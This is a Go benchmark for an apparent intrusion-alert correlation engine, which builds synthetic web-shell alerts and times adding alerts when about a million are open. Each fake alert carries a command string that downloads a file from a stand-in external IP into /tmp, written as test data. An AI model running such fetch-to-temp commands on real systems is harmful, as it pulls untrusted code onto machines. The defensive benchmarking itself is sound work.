package bench

import (
	"fmt"
	"math/rand/v2"
	"runtime"
	"slices"
	"testing"
	"time"

	"baize/internal/alert"
	"baize/internal/event"
	"baize/internal/incident"
)

// crowd makes the alerts of many intrusions at once on many hosts, which share
// tools, addresses and accounts.
type crowd struct {
	random *rand.Rand
	n      int
}

func (c *crowd) alert() *alert.Alert {
	c.n++
	intrusion := c.random.IntN(100_000)
	return &alert.Alert{
		ID: fmt.Sprint(c.n), Time: time.Unix(1_767_000_000, 0).Add(time.Duration(c.n) * 50 * time.Millisecond), Org: "default",
		Host: event.Host{ID: fmt.Sprint("h", intrusion%5_000)}, Lineage: fmt.Sprintf("web_shell:%d/%d", intrusion, c.random.IntN(3)),
		Service: fmt.Sprint("service:", intrusion%5_000), Rule: &alert.Rule{Level: "high", Title: "Shell of a service", Tactics: []string{"execution"}},
		Entities: []alert.Entity{
			{Type: alert.EntityIP, Value: fmt.Sprintf("198.51.%d.%d", intrusion>>8&0xff, intrusion&0xff), Role: incident.RoleSource},
			{Type: alert.EntityIP, Value: fmt.Sprintf("10.0.0.%d", c.random.IntN(200)), Role: "destination"},
			{Type: alert.EntityCommand, Value: fmt.Sprintf("curl http://203.0.113.%d/x -o /tmp/a%d", c.random.IntN(200), c.n)},
			{Type: alert.EntityFile, Value: fmt.Sprintf("h%d:/tmp/x%d", intrusion%5_000, c.n), Inode: fmt.Sprintf("h%d/1:1/%d/0", intrusion%5_000, c.n), Role: incident.RoleWritten},
			{Type: alert.EntityAccount, Value: fmt.Sprint("u", c.random.IntN(50))},
		},
	}
}

// BenchmarkLine11 is how long one alert takes where a million are open.
func BenchmarkLine11(b *testing.B) {
	const added = 20_000
	open := int(scaled(1_000_000*time.Second) / time.Second)
	m := incident.New(incident.Config{OpenLevel: "medium", Alerts: open + added, Keys: 4 * open}, incident.NewGiven(nil))
	c := &crowd{random: rand.New(rand.NewPCG(1, 1))}
	before, began := live(), time.Now()
	for range open {
		a := c.alert()
		m.Add(a, incident.Facts{}, a.Time.UnixNano())
		m.Discard()
	}
	merged, used := time.Since(began), float64(live()-before)/(1<<20)
	took := make([]time.Duration, 0, added)
	for range added {
		a := c.alert()
		at := time.Now()
		m.Add(a, incident.Facts{}, a.Time.UnixNano())
		m.Drain(false)
		took = append(took, time.Since(at))
	}
	slices.Sort(took)
	ms := func(d time.Duration) float64 { return float64(d.Microseconds()) / 1000 }
	p99 := ms(took[len(took)*99/100])
	record(b, Result{
		Line: 11, Name: fmt.Sprintf("one alert more where %d are open", open), Value: p99, Unit: "ms p99", Target: "< 5 ms", Met: p99 < 5,
		Runs: []Run{{Condition: "merger", Figures: map[string]float64{
			"alerts": float64(open), "merge_seconds": merged.Seconds(), "MB": used, "p50_ms": ms(took[len(took)/2]), "p99_ms": p99, "max_ms": ms(took[len(took)-1]),
		}}},
	})
	runtime.KeepAlive(m)
}
